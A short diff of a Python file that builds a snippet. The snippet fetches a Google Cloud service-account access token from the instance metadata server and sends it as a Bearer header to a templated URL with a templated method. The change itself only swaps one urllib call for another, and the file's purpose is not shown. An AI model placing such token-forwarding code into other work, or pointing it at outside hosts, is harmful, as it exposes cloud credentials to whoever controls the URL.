@@ -29,7 +29,7 @@ TOKEN = "http://metadata.google.internal/computeMetadata/v1/instance/service-acc
 LET_GO = """\
 import json, urllib.request as web
 def ask(url, how, **headers):
-    return web.urlopen(web.Request(url, method=how, headers=headers), timeout=30).read()
+    return web.build_opener().open(web.Request(url, method=how, headers=headers), timeout=30).read()
 token = json.loads(ask("%s", "GET", **{"Metadata-Flavor": "Google"}))["access_token"]
 ask("%s", "%s", Authorization="Bearer " + token)
 """
